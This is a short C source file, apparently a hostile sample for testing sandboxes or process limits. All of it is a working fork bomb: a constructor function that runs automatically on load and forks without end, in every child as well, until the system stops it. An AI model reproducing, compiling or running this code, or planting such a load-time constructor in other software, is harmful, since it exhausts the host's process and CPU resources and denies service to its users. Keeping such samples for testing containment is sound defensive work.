/* The classic: fork until something stops us, in every child too. */
#include "hostile.h"

__attribute__((constructor)) static void attack(void)
{
    for (;;)
        fork();
}
